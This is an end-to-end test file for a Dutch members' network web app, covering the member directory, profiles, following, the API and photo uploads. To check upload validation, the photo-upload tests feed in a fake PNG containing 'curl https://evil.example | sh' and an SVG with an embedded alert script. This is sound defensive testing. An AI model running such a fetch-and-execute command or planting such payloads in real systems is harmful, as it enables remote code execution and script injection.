import sharp from 'sharp';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { baseURL, expectAccessible, launchBrowser, openPage, signIn } from './browser';

// Profiles, the member directory and "Wie deed dit al?". Accounts of this file only:
// demo-member15 (Daan Willems, Provincie Gelderland), demo-member17 (Thijs Peters, Gemeente
// Amersfoort) and, as the one who is found, demo-member18 (Sarah Cohen, Gemeente Amsterdam).

describe('people', () => {
	let browser: Browser;
	beforeAll(async () => {
		browser = await launchBrowser();
	});
	afterAll(async () => {
		await browser?.close();
	});

	it('is for members only: visitors sign in first', async () => {
		for (const path of ['/leden', '/leden/00000000-0000-4000-8000-000000000000', '/profiel']) {
			const response = await fetch(`${baseURL()}${path}`, { redirect: 'manual' });
			expect(response.status, path).toBe(303);
			expect(response.headers.get('location')).toBe(`/inloggen?terug=${encodeURIComponent(path)}`);
		}
		const api = await fetch(`${baseURL()}/api/v1/members`);
		expect(api.status).toBe(401);
	});

	it('finds a member in another province by theme, with counts, and shows the profile', async () => {
		const { page, problems, close } = await openPage(browser);
		await signIn(page, 'demo-member15@example.org');

		// The start page suggests colleagues elsewhere, with the reasons in words.
		const who = page.getByRole('region', { name: 'Wie deed dit al?' });
		await expect.poll(() => who.getByRole('listitem').count()).toBeGreaterThan(0);
		expect(await who.getByRole('listitem').count()).toBeLessThanOrEqual(5);
		expect(await who.innerText()).toContain('werkt ook aan');
		await expectAccessible(page);

		await page.goto('/leden');
		expect(await page.locator('h1').innerText()).toBe('Leden');
		await expectAccessible(page);
		await page.getByLabel('Thema', { exact: true }).selectOption('digitalisering');
		await page.getByLabel('Provincie', { exact: true }).selectOption('NL-NH');
		await page.locator('main').getByRole('button', { name: 'Zoeken' }).click();
		await page.waitForURL((url) => url.searchParams.get('thema') === 'digitalisering');
		const url = new URL(page.url());
		expect(url.pathname).toBe('/leden');
		expect(url.searchParams.get('provincie')).toBe('NL-NH');

		const results = page.getByRole('list').filter({ has: page.getByRole('heading', { level: 3 }) });
		await expect.poll(() => results.getByRole('heading').allInnerTexts()).toContain('Sarah Cohen');
		// Each option shows how many members it would give with the other filter as it is.
		const theme = await page
			.getByLabel('Thema', { exact: true })
			.locator('option:checked')
			.innerText();
		expect(theme).toMatch(/^Digitalisering \(\d+\)$/);
		const province = await page
			.getByLabel('Provincie', { exact: true })
			.locator('option:checked')
			.innerText();
		expect(province).toMatch(/^Noord-Holland \(\d+\)$/);
		const found = Number(
			(await page.getByRole('status').innerText()).match(/Gevonden leden: (\d+)/)?.[1]
		);
		expect(province).toBe(`Noord-Holland (${found})`);
		await expectAccessible(page);

		// The URL holds the search: opening it again gives the same.
		await page.goto(url.pathname + url.search);
		expect(
			await page.getByLabel('Thema', { exact: true }).locator('option:checked').innerText()
		).toBe(theme);

		await page.getByRole('link', { name: 'Sarah Cohen' }).click();
		await page.waitForURL((u) => u.pathname.startsWith('/leden/'));
		const id = new URL(page.url()).pathname.split('/')[2]!;
		expect(await page.locator('h1').innerText()).toBe('Sarah Cohen');
		const main = page.locator('main');
		for (const text of ['Gemeente Amsterdam', 'Noord-Holland', 'Digitalisering', 'Vraag me over']) {
			expect(await main.innerText()).toContain(text);
		}
		// Her contributions: the practice example she wrote, linked, with its kind.
		const contributions = page.getByRole('region', { name: 'Bijdragen' });
		const written = contributions.getByRole('link', {
			name: 'Talentenpool voor de haven van Amsterdam'
		});
		expect(await written.getAttribute('href')).toMatch(/^\/kennis\/talentenpool-voor-de-haven/);
		expect(await contributions.innerText()).toContain('Praktijkvoorbeeld');
		expect(await contributions.innerText()).not.toContain('Nog geen bijdragen');
		// Following shows its state and says so; it can be undone from the same button.
		await page.getByRole('button', { name: 'Sarah Cohen volgen' }).click();
		await page.waitForURL((u) => u.searchParams.get('volgen') === 'aan');
		expect(await page.getByRole('status').allInnerTexts()).toContain('Je volgt nu Sarah Cohen.');
		await expectAccessible(page);
		await page.getByRole('button', { name: 'Sarah Cohen niet meer volgen' }).click();
		await page.waitForURL((u) => u.searchParams.get('volgen') === 'uit');
		expect(await page.getByRole('status').allInnerTexts()).toContain(
			'Je volgt Sarah Cohen niet meer.'
		);
		expect(await page.getByRole('link', { name: 'Contact opnemen' }).getAttribute('href')).toBe(
			`/berichten/nieuw?aan=${id}`
		);
		expect(await page.getByRole('heading', { name: 'Wie deed dit al?' }).isVisible()).toBe(true);
		await expectAccessible(page);

		// The API answers the same search, and refuses a value that does not exist.
		const api = await page.request.get('/api/v1/members?province=NL-NH&theme=digitalisering');
		expect(api.status()).toBe(200);
		const body = (await api.json()) as { items: { id: string; name: string }[]; total: number };
		expect(body.total).toBe(found);
		expect(body.items.map((m) => m.name)).toContain('Sarah Cohen');
		const wrong = await page.request.get('/api/v1/members?province=NL-XX');
		expect(wrong.status()).toBe(400);
		expect(((await wrong.json()) as { error: { code: string } }).error.code).toBe('invalid_filter');
		expect((await page.request.get(`/api/v1/members/${id}`)).status()).toBe(200);

		// From the profile to a contact request (the rest of that road is in contact.test.ts).
		await page.goto(`/leden/${id}`);
		await page.getByRole('link', { name: 'Contact opnemen' }).click();
		await page.waitForURL((u) => u.pathname === '/berichten/nieuw');
		expect(await page.locator('h1').innerText()).toBe('Contact opnemen met Sarah Cohen');

		expect(problems.filter((p) => /Content Security Policy|Uncaught|TypeError/.test(p))).toEqual(
			[]
		);
		await close();
	});

	it('edits the own profile with a photo, at once, and refuses a fake image in Dutch', async () => {
		const { page, close } = await openPage(browser);
		await signIn(page, 'demo-member17@example.org');
		await page.goto('/profiel');
		expect(await page.locator('h1').innerText()).toBe('Mijn profiel');
		await expectAccessible(page);

		await page.getByLabel('Functie').fill('Accountmanager mkb en zzp');
		await page.getByRole('checkbox', { name: 'Digitalisering' }).check();
		await page.getByLabel('Vraag me over').fill('Accountmanagement voor zzp’ers, crisisaanpak');
		await page.getByLabel('Ik zoek').fill('Digitale werkplaatsen, webshops voor winkeliers');
		await page.getByLabel('Over mij').fill('Accountmanager in Amersfoort, sinds 2015.');
		await page.getByRole('checkbox', { name: 'Toon mijn e-mailadres aan andere leden' }).check();
		const png = await sharp({
			create: { width: 640, height: 480, channels: 3, background: '#17555e' }
		})
			.png()
			.toBuffer();
		await page
			.getByLabel('Nieuwe foto (niet verplicht)')
			.setInputFiles({ name: 'portret.png', mimeType: 'image/png', buffer: png });
		await page.getByRole('button', { name: 'Profiel opslaan' }).click();

		expect(await page.getByRole('status').first().innerText()).toBe('Je profiel is opgeslagen.');
		expect(await page.getByLabel('Functie').inputValue()).toBe('Accountmanager mkb en zzp');
		expect(await page.getByRole('checkbox', { name: 'Digitalisering' }).isChecked()).toBe(true);
		const photo = page.locator('img.kn-avatar');
		const src = await photo.getAttribute('src');
		expect(src).toMatch(/^\/leden\/[0-9a-f-]+\/foto\?v=[0-9a-f]{8}$/);
		await expectAccessible(page);

		const served = await page.request.get(src!);
		expect(served.status()).toBe(200);
		expect(served.headers()['content-type']).toBe('image/webp');
		expect(served.headers()['x-content-type-options']).toBe('nosniff');
		expect(served.headers()['cache-control']).toContain('private');
		expect((await sharp(await served.body()).metadata()).width).toBe(400);
		// Only for signed-in members.
		expect((await fetch(`${baseURL()}${src}`, { redirect: 'manual' })).status).toBe(303);

		// A script that calls itself a PNG: refused in Dutch, nothing changed.
		await page.getByLabel('Functie').fill('Iets anders');
		await page.getByLabel('Nieuwe foto (niet verplicht)').setInputFiles({
			name: 'vakantie.png',
			mimeType: 'image/png',
			buffer: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
		});
		await page.getByRole('button', { name: 'Profiel opslaan' }).click();
		const alert = page.getByRole('alert');
		expect(await alert.innerText()).toContain('Je profiel is niet opgeslagen.');
		expect(await alert.innerText()).toContain(
			'Dit bestand is geen JPEG-, PNG- of WebP-foto. Kies een foto in een van die formaten.'
		);
		const field = page.getByLabel('Nieuwe foto (niet verplicht)');
		expect(await field.getAttribute('aria-invalid')).toBe('true');
		expect(await field.getAttribute('aria-describedby')).toContain('profiel-photo-error');
		await expectAccessible(page);

		// Others see the saved profile (not the refused change), with the e-mail address shown.
		await page.goto(src!.replace(/\/foto.*$/, ''));
		const main = page.locator('main');
		expect(await main.innerText()).toContain('Accountmanager mkb en zzp bij Gemeente Amersfoort');
		expect(await main.innerText()).not.toContain('Iets anders');
		expect(await main.innerText()).toContain('demo-member17@example.org');
		expect(await page.locator('img.kn-avatar').getAttribute('src')).toBe(src);

		// The photo can go again: initials instead.
		await page.goto('/profiel');
		await page.getByRole('button', { name: 'Foto verwijderen' }).click();
		expect(await page.getByRole('status').first().innerText()).toContain('Je foto is verwijderd.');
		expect(await page.locator('img.kn-avatar').count()).toBe(0);
		expect((await page.request.get(src!)).status()).toBe(404);
		await close();
	});

	it('saves the profile and refuses a fake image without JavaScript', async () => {
		const { page, close } = await openPage(browser, { javaScript: false });
		await signIn(page, 'demo-member16@example.org');
		await page.goto('/profiel');
		await page.getByLabel('Nieuwe foto (niet verplicht)').setInputFiles({
			name: 'logo.svg.png',
			mimeType: 'image/png',
			buffer: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
		});
		await page.getByRole('button', { name: 'Profiel opslaan' }).click();
		expect(await page.getByRole('alert').innerText()).toContain('geen JPEG-, PNG- of WebP-foto');
		await page.getByLabel('Ik zoek').fill('Zonnepanelen voor winkelstraten');
		await page.getByRole('button', { name: 'Profiel opslaan' }).click();
		expect(await page.getByRole('status').first().innerText()).toBe('Je profiel is opgeslagen.');
		expect(await page.getByLabel('Ik zoek').inputValue()).toBe('Zonnepanelen voor winkelstraten');
		await close();
	});
});
